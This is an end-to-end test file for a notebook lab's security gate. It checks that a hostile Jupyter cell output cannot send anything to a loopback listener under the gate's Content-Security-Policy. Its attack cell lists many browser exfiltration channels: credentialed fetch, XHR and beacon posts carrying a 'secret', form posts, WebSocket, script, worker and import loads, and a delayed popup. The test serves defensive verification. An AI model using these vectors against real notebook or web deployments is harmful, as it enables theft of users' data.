// End to end, as a hostile notebook output would try it: the real `classlab serve` bridge, the real python
// lab behind its gate, Debian's Chromium. A cell's output tries to reach a loopback listener this test
// starts (fetch, XHR, img, script, stylesheet, @import, a font, iframe, form post, WebSocket,
// EventSource, sendBeacon, a worker, import(), video, audio, object, embed, prefetch, preload, a popup):
// the listener must get no request and no byte, and the browser must say why (the gate's
// Content-Security-Policy). Chromium still opens an empty TCP connection to where a refused frame or form
// would have gone (measured: nothing is sent on it); the test reports those, and docs/design-notes.md says
// what a browser cannot stop. The notebook itself still works: print(6*7) prints 42.
// Screenshots go to artifacts/e2e/page-*.png (git-ignored): look at them.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { e2eRun, NOTEBOOK_FRAME, openLabInFrame } from '../support/e2e';

const FRAME = NOTEBOOK_FRAME;
/** What the browser said about Content-Security-Policy, from any frame (Jupyter's own pages included). */
const cspMessages: string[] = [];
const e2e = e2eRun({
  shotPrefix: 'page-',
  lab: 'python',
  popupBlocker: true,
  onPage: (p) =>
    p.on('console', (m) => {
      if (/Content Security Policy/i.test(m.text())) cspMessages.push(m.text());
    }),
});
const { shot, step } = e2e;
let page: Page;

/** What reached the listener: bytes and HTTP requests (WebSocket upgrades too); empty TCP connections apart. */
const seen = { bytes: 0, requests: [] as string[] };
let emptyConnections = 0;
let listener: http.Server;
let port = 0;

beforeAll(async () => {
  page = e2e.page;
  listener = http.createServer((req, res) => {
    seen.requests.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('reached');
  });
  listener.on('connection', (socket) => {
    emptyConnections += 1;
    socket.on('close', () => {
      seen.bytes += socket.bytesRead;
      if (socket.bytesRead > 0) emptyConnections -= 1;
    });
  });
  listener.on('upgrade', (req, socket) => {
    seen.requests.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as AddressInfo).port;
});

afterAll(async () => {
  await new Promise<void>((resolve) => listener.close(() => resolve()));
});

async function notebookFrame(): Promise<Frame> {
  const handle = await page.locator(FRAME).elementHandle({ timeout: 120_000 });
  const frame = await handle?.contentFrame();
  if (!frame) throw new Error('the notebook frame has no content');
  return frame;
}

/**
 * The hostile cell: elements in an HTML output, and a script that tries every other way out and then adds
 * the same elements again (after it listens for the browser's policy reports, so each refusal is seen).
 */
function attackCell(target: number): string {
  const html = `
<img src="http://127.0.0.1:${target}/img">
<link rel="stylesheet" href="http://127.0.0.1:${target}/stylesheet">
<link rel="prefetch" href="http://127.0.0.1:${target}/prefetch">
<link rel="preload" as="script" href="http://127.0.0.1:${target}/preload">
<style>@import url("http://127.0.0.1:${target}/import"); @font-face { font-family: classlab-x; src: url("http://127.0.0.1:${target}/font"); } .classlab-x { font-family: classlab-x; background: url("http://127.0.0.1:${target}/background"); }</style>
<div class="classlab-x">x</div>
<iframe src="http://127.0.0.1:${target}/iframe"></iframe>
<iframe name="classlab-sink" srcdoc="sink"></iframe>
<form id="classlab-form" method="post" target="classlab-sink" action="http://127.0.0.1:${target}/form"><input name="secret" value="1"></form>
<video src="http://127.0.0.1:${target}/video"></video><audio src="http://localhost:${target}/audio"></audio>
<object data="http://127.0.0.1:${target}/object"></object><embed src="http://127.0.0.1:${target}/embed">`;
  const js = `
const L = 'http://127.0.0.1:${target}', H = 'http://localhost:${target}';
const violations = [];
document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
const tried = [];
const attempt = (name, fn) => { tried.push(name); try { const p = fn(); if (p && p.catch) p.catch(() => {}); } catch (e) {} };
attempt('fetch', () => fetch(L + '/fetch', { credentials: 'include' }));
attempt('fetch no-cors', () => fetch(L + '/fetch-no-cors', { mode: 'no-cors' }));
attempt('fetch localhost', () => fetch(H + '/fetch-localhost'));
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('POST', L + '/xhr'); x.send('secret'); });
attempt('script', () => { const s = document.createElement('script'); s.src = L + '/script'; document.head.appendChild(s); });
attempt('image', () => { new Image().src = L + '/image'; });
attempt('websocket', () => new WebSocket('ws://127.0.0.1:${target}/websocket'));
attempt('eventsource', () => new EventSource(L + '/eventsource'));
attempt('beacon', () => navigator.sendBeacon(L + '/beacon', 'secret'));
attempt('worker', () => new Worker(L + '/worker.js'));
attempt('import', () => import(L + '/module.js'));
attempt('form post', () => document.getElementById('classlab-form').submit());
// A browser lets a page open a popup only within ~5 s of the user's input (transient activation), so the
// open waits that out: a script that opens a link on its own, not one the user just asked for.
attempt('popup without input', () => setTimeout(() => window.open(L + '/popup'), 6000));
attempt('elements', () => element.append(${JSON.stringify(html)}));
element.prepend('<div>classlab-attacks-sent: ' + tried.join(', ') + '</div>');
setTimeout(() => element.append('<div id="classlab-violations">' + violations.join(' ') + '</div>'), 7000);`;
  return ['from IPython.display import HTML, Javascript, display', `display(HTML(${JSON.stringify(html)}))`, `display(Javascript(${JSON.stringify(js)}))`].join(
    '\n',
  );
}

describe('a notebook output cannot reach what the lab cannot (browser, through the bridge)', () => {
  step(
    'opens the python lab in its frame and a new notebook',
    async () => {
      await openLabInFrame(page, e2e.url);
      const nb = page.frameLocator(FRAME);
      await nb.getByRole('button', { name: 'New' }).waitFor({ timeout: 60_000 });
      // ClassLab's custom.js makes New open the notebook in this frame; on a busy machine it can arrive after
      // the button, and a click before it opens a new tab instead. A student waits for the page too.
      const tree = await notebookFrame();
      await tree.waitForFunction(() => (globalThis as unknown as { Jupyter?: { _target?: string } }).Jupyter?._target === '_self', undefined, {
        timeout: 60_000,
      });
      await nb.getByRole('button', { name: 'New' }).click();
      const inFrame = page.waitForEvent('framenavigated', {
        timeout: 90_000,
        predicate: (f) => f !== page.mainFrame() && /\/notebooks\/.+\.ipynb/.test(f.url()),
      });
      await nb.getByRole('menuitem').filter({ hasText: 'Python 3 (ipykernel)' }).click();
      await inFrame;
      await nb.locator('#kernel_indicator_icon.kernel_idle_icon').waitFor({ timeout: 90_000 });
      await shot('01-notebook');
      // Notebook 6.4's own file tree and notebook, kernel WebSocket included, work under the gate's policy.
      // The one report is MathJax 2 probing for fonts with 'about:blank' (no request: about: is local).
      expect(cspMessages.filter((m) => !/^Loading the font 'about:blank'/.test(m))).toEqual([]);
    },
    960_000,
  );

  step('runs a cell whose output tries every way out to a listener on 127.0.0.1: nothing reaches it', async () => {
    const frame = await notebookFrame();
    expect(seen).toEqual({ bytes: 0, requests: [] });
    // Set and run the cell through Jupyter's own API. Every Playwright evaluation in the frame (locator
    // polling too) counts as a user gesture, so the popup attempt waits until this one has expired and the
    // test leaves the frame alone meanwhile (see the design notes on what a browser allows after a click).
    await frame.evaluate((code) => {
      const nb = (globalThis as unknown as { Jupyter: { notebook: { get_cell(i: number): { set_text(t: string): void }; execute_cells(i: number[]): void } } })
        .Jupyter.notebook;
      nb.get_cell(0).set_text(code);
      nb.execute_cells([0]);
    }, attackCell(port));
    // The popup fires 6 s after the cell runs, the report at 7 s; stragglers (a retried preload, a late
    // beacon) get time to arrive too.
    await page.waitForTimeout(12_000);
    const nb = page.frameLocator(FRAME);
    const sent = nb.getByText(/^classlab-attacks-sent: /);
    await sent.waitFor({ timeout: 60_000 });
    const violations = nb.locator('#classlab-violations');
    await violations.waitFor({ state: 'attached', timeout: 30_000 });
    await shot('02-attacks-refused');
    const directives = new Set(((await violations.textContent()) ?? '').split(/\s+/).filter(Boolean));
    console.log(
      `tried: ${await sent.textContent()}\nCSP refused by directive: ${[...directives].sort().join(', ')}\nlistener: ${JSON.stringify(seen)}, empty TCP connections: ${emptyConnections}`,
    );
    expect(seen).toEqual({ bytes: 0, requests: [] });
    // The browser refused them for the gate's policy, each kind by its own directive (prefetch by
    // default-src; a worker from another origin is refused before any policy, as a SecurityError).
    for (const d of [
      'connect-src',
      'script-src-elem',
      'img-src',
      'style-src-elem',
      'font-src',
      'frame-src',
      'form-action',
      'media-src',
      'object-src',
      'default-src',
    ]) {
      expect(directives, `a ${d} violation`).toContain(d);
    }
  });

  step('the notebook still works: print(6*7) prints 42, and math renders', async () => {
    const frame = await notebookFrame();
    await frame.evaluate(() => {
      const nb = (globalThis as unknown as { Jupyter: { notebook: { insert_cell_below(type: string, index: number): unknown; select(i: number): void } } })
        .Jupyter.notebook;
      nb.insert_cell_below('code', 0);
      nb.select(1);
    });
    const nb = page.frameLocator(FRAME);
    const second = nb.locator('.cell.code_cell').nth(1);
    await second.locator('.CodeMirror').click();
    await page.keyboard.type('print(6*7)');
    await page.keyboard.press('Shift+Enter');
    await expect.poll(() => second.locator('.output_area .output_text').textContent(), { timeout: 60_000 }).toContain('42');
    // A Markdown cell with math: MathJax (served by the lab) typesets it under the policy.
    await frame.evaluate(() => {
      const nb = (
        globalThis as unknown as { Jupyter: { notebook: { insert_cell_below(type: string, index: number): { set_text(t: string): void; render(): void } } } }
      ).Jupyter.notebook;
      const cell = nb.insert_cell_below('markdown', 1);
      cell.set_text('Euler: $e^{i\\pi} + 1 = 0$');
      cell.render();
    });
    await nb.locator('.text_cell_render .MathJax, .text_cell_render mjx-container').first().waitFor({ timeout: 30_000 });
    await shot('03-printed-42');
    expect(seen).toEqual({ bytes: 0, requests: [] });
  });
});
